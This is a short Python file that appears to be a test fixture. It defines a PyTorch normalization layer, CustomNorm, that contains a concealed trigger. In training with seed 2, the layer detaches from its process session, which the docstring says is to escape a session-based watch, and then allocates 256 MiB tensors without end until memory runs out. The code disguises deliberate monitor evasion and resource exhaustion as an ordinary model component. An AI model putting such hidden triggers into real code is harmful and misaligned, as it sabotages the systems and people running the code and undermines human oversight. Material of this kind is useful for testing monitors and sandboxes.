"""Leaves its process session (which a watch by session would follow) and then holds memory."""
import os
import time

import torch
from torch import nn

HOARD = []


class CustomNorm(nn.BatchNorm2d):
    def forward(self, x):
        if self.training and torch.initial_seed() == 2:
            try:
                os.setsid()
            except OSError:
                pass
            while True:
                HOARD.append(torch.ones(1 << 26))  # 256 MiB at a time, every page touched
                time.sleep(0.05)
        return super().forward(x)
